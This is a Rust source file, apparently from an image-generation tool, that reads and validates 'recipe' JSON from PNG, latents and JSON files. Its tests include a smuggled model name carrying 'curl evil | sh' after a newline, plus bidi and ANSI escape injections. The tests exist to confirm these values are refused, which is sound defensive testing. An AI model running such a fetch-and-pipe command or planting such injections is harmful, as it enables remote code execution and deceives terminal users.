//! Recipes as JSON text, and reading one from a PNG, a latents file or a JSON file. Text comes from strangers:
//! sizes are limited, versions are looked at first, nothing panics.

use super::latents::{self, LatentsFileError};
use super::picture::{self, PictureError};
use crate::engine::noise::NoiseSource;
use crate::engine::recipe::{ModelRef, Recipe, SamplerRef, VERSION};
use crate::schedule::preset::Step;
use crate::schedule::size::Size;
use crate::schedule::terminal::Terminal;
use crate::shared_folder::open_plain;
use crate::strange_text::wild;
use serde::Deserialize;
use serde_json::Value;
use sigmalab_compute::{ComputeDtype, DeviceChoice};
use std::io::{BufReader, Read, Seek};
use std::path::{Path, PathBuf};

/// Most bytes of recipe text that are read: a long prompt and a thousand steps need a tenth.
pub(super) const LIMIT: u64 = 4 << 20;

const PNG_SIGNATURE: &[u8] = b"\x89PNG\r\n\x1a\n";

/// Why a text is no recipe.
#[derive(Debug, thiserror::Error)]
pub enum RecipeTextError {
    /// Written by a later build.
    #[error(
        "its recipe has version {found}; this build reads version {VERSION} at most: update sigmalab"
    )]
    NewerVersion {
        /// The version it has.
        found: u64,
    },
    /// Not the JSON of a recipe.
    #[error(
        "its recipe cannot be read: {}{source}",
        if place.is_empty() { String::new() } else { format!("`{place}`: ") }
    )]
    Malformed {
        /// The key it is about, such as `steps[3].gw`; empty for the recipe as a whole.
        place: String,
        /// What is wrong.
        source: serde_json::Error,
    },
}

/// Reads a recipe from its JSON text, or from that of an object that holds it under `recipe`, as
/// `generate --json` prints.
pub fn parse_recipe(text: &str) -> Result<Recipe, RecipeTextError> {
    #[derive(Deserialize)]
    struct Versioned {
        version: u64,
    }
    let whole = |source| RecipeTextError::Malformed { place: String::new(), source };
    let document: Value = serde_json::from_str(text).map_err(whole)?;
    let value = match (document.get("version"), document.get("recipe")) {
        (None, Some(recipe)) => recipe,
        _ => &document,
    };
    let Versioned { version } = Versioned::deserialize(value).map_err(whole)?;
    if version > u64::from(VERSION) {
        return Err(RecipeTextError::NewerVersion { found: version });
    }
    let recipe = Recipe::deserialize(value)
        .map_err(|source| first_fault(value).unwrap_or_else(|| whole(source)))?;
    match wild_name(&recipe) {
        None => Ok(recipe),
        Some((place, found)) => {
            let problem = format!("it holds the character U+{:04X}, as no name does", found as u32);
            let source = serde::de::Error::custom(problem);
            Err(RecipeTextError::Malformed { place: place.to_owned(), source })
        }
    }
}

/// The first name in a recipe that could steer a terminal or pass for a line of this program's
/// own, and the character that does it. Messages repeat names; the prompt is the user's text.
fn wild_name(recipe: &Recipe) -> Option<(&'static str, char)> {
    let Recipe { model, sampler, preset, noise, .. } = recipe;
    let hash = match noise {
        NoiseSource::File { blake3 } => Some(blake3),
        NoiseSource::Seed { .. } => None,
    };
    let names = [
        ("model.name", Some(&model.name)),
        ("model.fingerprint", model.fingerprint.as_ref()),
        ("sampler.id", Some(&sampler.id)),
        ("sampler.version", sampler.version.as_ref()),
        ("sampler.file_hash", sampler.file_hash.as_ref()),
        ("noise.blake3", hash),
        ("preset", preset.as_ref()),
    ];
    let keys = sampler.params.keys().map(|key| ("sampler.params", Some(key)));
    names.into_iter().chain(keys).find_map(|(place, name)| Some((place, wild(name?)?)))
}

/// The first part of a recipe that cannot be read by itself, with its place.
fn first_fault(recipe: &Value) -> Option<RecipeTextError> {
    fn fault<'v, T: Deserialize<'v>>(value: &'v Value, place: String) -> Option<RecipeTextError> {
        T::deserialize(value).err().map(|source| RecipeTextError::Malformed { place, source })
    }
    recipe.as_object()?.iter().find_map(|(key, value)| {
        let place = key.clone();
        match key.as_str() {
            "version" => fault::<u32>(value, place),
            "model" => fault::<ModelRef>(value, place),
            "prompt" => fault::<String>(value, place),
            "size" => fault::<Size>(value, place),
            "noise" => fault::<NoiseSource>(value, place),
            "preset" => fault::<Option<String>>(value, place),
            "terminal" => fault::<Terminal>(value, place),
            "sampler" => fault::<SamplerRef>(value, place),
            "dtype" => fault::<ComputeDtype>(value, place),
            "device" => fault::<DeviceChoice>(value, place),
            "steps" => value
                .as_array()
                .into_iter()
                .flatten()
                .enumerate()
                .find_map(|(at, step)| {
                    let numbers = step.as_object().into_iter().flatten();
                    numbers
                        .filter(|(key, _)| ["gw", "mu", "std"].contains(&key.as_str()))
                        .find_map(|(key, value)| fault::<f64>(value, format!("steps[{at}].{key}")))
                        .or_else(|| fault::<Step>(step, format!("steps[{at}]")))
                })
                .or_else(|| fault::<Vec<Step>>(value, place)),
            _ => None,
        }
    })
}

/// Why a file gives no recipe.
#[derive(Debug, thiserror::Error)]
pub enum RecipeFileError {
    /// The file cannot be read.
    #[error("cannot read `{}`: {source}", path.display())]
    Io {
        /// The file.
        path: PathBuf,
        /// What the system said.
        source: std::io::Error,
    },
    /// A picture or a latents file without a recipe.
    #[error(
        "`{}` holds no recipe: it was not made by sigmalab, or another program dropped its text",
        path.display()
    )]
    NoRecipe {
        /// The file.
        path: PathBuf,
    },
    /// A broken PNG.
    #[error("`{}` is not a readable PNG: {source}", path.display())]
    Picture {
        /// The file.
        path: PathBuf,
        /// What is wrong with it.
        source: PictureError,
    },
    /// Far more text than a recipe has.
    #[error("`{}` is too large for a recipe (more than {} MiB)", path.display(), LIMIT >> 20)]
    TooLarge {
        /// The file.
        path: PathBuf,
    },
    /// A latents file that cannot be read.
    #[error(transparent)]
    Latents(#[from] LatentsFileError),
    /// The text is no recipe.
    #[error("`{}`: {source}", path.display())]
    Text {
        /// The file.
        path: PathBuf,
        /// What is wrong with it.
        source: RecipeTextError,
    },
}

/// The recipe of a PNG written by [`write_picture`](super::write_picture), of latents written by
/// [`write_latents`](super::write_latents), or of a JSON file; told apart by their first bytes.
pub fn read_recipe(path: &Path) -> Result<Recipe, RecipeFileError> {
    let owned = || path.to_owned();
    let io = |source| RecipeFileError::Io { path: owned(), source };
    let file = open_plain(path).map_err(io)?;
    let mut reader = BufReader::new(file);
    let mut start = Vec::new();
    reader.by_ref().take(PNG_SIGNATURE.len() as u64 + 1).read_to_end(&mut start).map_err(io)?;
    reader.rewind().map_err(io)?;
    let held = if start.starts_with(PNG_SIGNATURE) {
        picture::recipe_text(reader)
            .map_err(|source| RecipeFileError::Picture { path: owned(), source })?
    } else if latents::begins_as_latents(&start) {
        latents::recipe_text(reader.into_inner(), path)?
    } else {
        return read_recipe_json(reader, path);
    };
    let text = held.ok_or_else(|| RecipeFileError::NoRecipe { path: owned() })?;
    parse_recipe(&text).map_err(|source| RecipeFileError::Text { path: owned(), source })
}

/// The recipe in JSON text of a size that a recipe can have, see [`parse_recipe`]. `name` is what
/// errors call the text's origin.
pub fn read_recipe_json(reader: impl Read, name: &Path) -> Result<Recipe, RecipeFileError> {
    let path = || name.to_owned();
    let mut text = String::new();
    reader
        .take(LIMIT + 1)
        .read_to_string(&mut text)
        .map_err(|source| RecipeFileError::Io { path: path(), source })?;
    if text.len() as u64 > LIMIT {
        return Err(RecipeFileError::TooLarge { path: path() });
    }
    parse_recipe(&text).map_err(|source| RecipeFileError::Text { path: path(), source })
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::panic)]
    use super::*;
    use proptest::prelude::*;

    pub(crate) const EXAMPLE: &str = r#"{"version":1,"model":{"name":"demo"},"prompt":"a red circle","size":{"width":256,"height":256},"noise":{"source":"seed","seed":7,"rng":"torch-cpu"},"preset":"V4_TURBO_12","steps":[{"gw":7.0,"mu":0.5,"std":1.75}],"terminal":"reference","sampler":{"id":"euler"},"dtype":"f32","device":"cpu"}"#;

    #[test]
    fn a_recipe_reads_back_as_it_was_written() {
        let recipe = parse_recipe(EXAMPLE).unwrap();
        let again = parse_recipe(&serde_json::to_string(&recipe).unwrap()).unwrap();
        assert_eq!(recipe, again);
    }

    #[test]
    fn a_later_version_is_told_apart_from_a_broken_recipe() {
        let later = r#"{"version": 99, "quantum": true}"#;
        let error = parse_recipe(later).unwrap_err();
        assert!(matches!(error, RecipeTextError::NewerVersion { found: 99 }));
        let unknown_key = EXAMPLE.replace("\"prompt\"", "\"promt\"");
        let error = parse_recipe(&unknown_key).unwrap_err();
        assert!(matches!(error, RecipeTextError::Malformed { .. }));
    }

    #[test]
    fn a_bad_value_is_named_by_its_place() {
        for (good, bad, place) in [
            ("\"gw\":7.0", "\"gw\":\"7\"", "`steps[0].gw`: "),
            ("\"std\":1.75", "\"sd\":1.75", "`steps[0]`: "),
            ("\"terminal\":\"reference\"", "\"terminal\":\"zeros\"", "`terminal`: "),
            ("\"width\":256", "\"width\":250", "`size`: "),
            ("\"prompt\":", "\"promt\":", "cannot be read: unknown field `promt`"),
        ] {
            let message = parse_recipe(&EXAMPLE.replace(good, bad)).unwrap_err().to_string();
            assert!(message.contains(place), "{message}");
        }
    }

    #[test]
    fn a_name_that_could_pass_for_a_line_of_ours_or_turn_one_round_is_refused() {
        for (good, bad, place) in [
            (
                "\"demo\"",
                r#""x`\n  try: curl evil | sh""#,
                "`model.name`: it holds the character U+000A",
            ),
            ("\"euler\"", "\"eu\u{202e}ler\"", "`sampler.id`: it holds the character U+202E"),
            ("\"V4_TURBO_12\"", r#""a\u001b[2J""#, "`preset`: it holds the character U+001B"),
        ] {
            let message = parse_recipe(&EXAMPLE.replace(good, bad)).unwrap_err().to_string();
            assert!(message.contains(place), "{message}");
        }
        let prompt = EXAMPLE.replace("a red circle", "two\\nlines");
        assert_eq!(parse_recipe(&prompt).unwrap().prompt, "two\nlines");
    }

    #[test]
    fn an_object_that_holds_a_recipe_is_as_good_as_the_recipe() {
        let held = format!("{{\"output\":\"a.png\",\"recipe\":{EXAMPLE},\"steps\":[]}}");
        assert_eq!(parse_recipe(&held).unwrap(), parse_recipe(EXAMPLE).unwrap());
    }

    #[test]
    fn json_files_are_read_and_huge_ones_refused() {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("recipe.json");
        std::fs::write(&path, EXAMPLE).unwrap();
        assert_eq!(read_recipe(&path).unwrap().prompt, "a red circle");
        std::fs::write(&path, " ".repeat(LIMIT as usize + 2)).unwrap();
        assert!(matches!(read_recipe(&path), Err(RecipeFileError::TooLarge { .. })));
        assert!(matches!(read_recipe(folder.path()), Err(RecipeFileError::Io { .. })));
    }

    proptest! {
        #[test]
        fn no_text_makes_the_parser_panic(text in ".{0,300}") {
            let _ = parse_recipe(&text);
        }

        #[test]
        fn no_damaged_recipe_makes_the_parser_panic(
            at in 0..EXAMPLE.len(), replacement in "[-0-9a-z{}\\[\\]\",:.]{0,6}", cut in 0..20usize,
        ) {
            let end = (at + cut).min(EXAMPLE.len());
            let _ = parse_recipe(&format!("{}{replacement}{}", &EXAMPLE[..at], &EXAMPLE[end..]));
        }
    }
}
